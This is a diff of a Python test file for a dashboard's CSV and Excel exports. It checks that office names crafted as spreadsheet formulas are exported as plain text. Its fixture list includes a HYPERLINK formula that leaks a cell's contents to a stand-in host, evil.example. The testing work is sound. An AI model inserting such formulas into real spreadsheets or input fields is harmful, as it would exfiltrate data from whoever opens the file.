@@ -105,12 +105,12 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")', "
 SIGNS = ("=", "+", "-", "@", "\t", "\r")
 
 
-def _rename_communes_of_dm(demo_app):
+def _rename_communes_of_the_province(demo_app):
     from server.db import get_db
     with demo_app.app_context():
         db = get_db()
         codes = [code for (code,) in db.execute(
-            "SELECT o.code FROM offices o JOIN offices p ON p.id = o.parent_id WHERE p.code = 'LDG-DMI' ORDER BY o.code")]
+            "SELECT o.code FROM offices o JOIN offices p ON p.id = o.parent_id WHERE p.code = 'LDG' ORDER BY o.code")]
         for code, name in zip(codes, FORMULAS * 3, strict=False):
             db.execute("UPDATE offices SET name = ? WHERE code = ?", [name, code])
         db.execute("UPDATE meta SET value = value || 'x' WHERE key = 'offices_version'")
@@ -118,9 +118,10 @@ def _rename_communes_of_dm(demo_app):
 
 
 def test_office_names_that_look_like_formulas_open_as_plain_text_in_the_csv(demo_app, as_user):
-    _rename_communes_of_dm(demo_app)
+    _rename_communes_of_the_province(demo_app)
     for sep in ("comma", "semicolon"):
-        text = as_user("tinh").get("/dashboard/export.csv", query_string={**VIEW, "sep": sep}).data.decode("utf-8-sig")
+        view = {**VIEW, "office": "LDG", "sep": sep}
+        text = as_user("tinh").get("/dashboard/export.csv", query_string=view).data.decode("utf-8-sig")
         cells = {cell for line in csv.reader(io.StringIO(text), delimiter=";" if sep == "semicolon" else ",")
                  for cell in line}
         assert len({"'" + name for name in FORMULAS} & cells) >= 2  # the communes with ratings in the view
@@ -128,8 +129,8 @@ def test_office_names_that_look_like_formulas_open_as_plain_text_in_the_csv(demo
 
 
 def test_office_names_that_look_like_formulas_are_strings_in_the_excel_file(demo_app, as_user):
-    _rename_communes_of_dm(demo_app)
-    data = as_user("tinh").get("/dashboard/export.xlsx", query_string=VIEW).data
+    _rename_communes_of_the_province(demo_app)
+    data = as_user("tinh").get("/dashboard/export.xlsx", query_string={**VIEW, "office": "LDG"}).data
     book = load_workbook(io.BytesIO(data))
     cells = {cell.value: cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
     shown = {name: cells[name] for name in FORMULAS if name in cells}  # exactly as named, not run
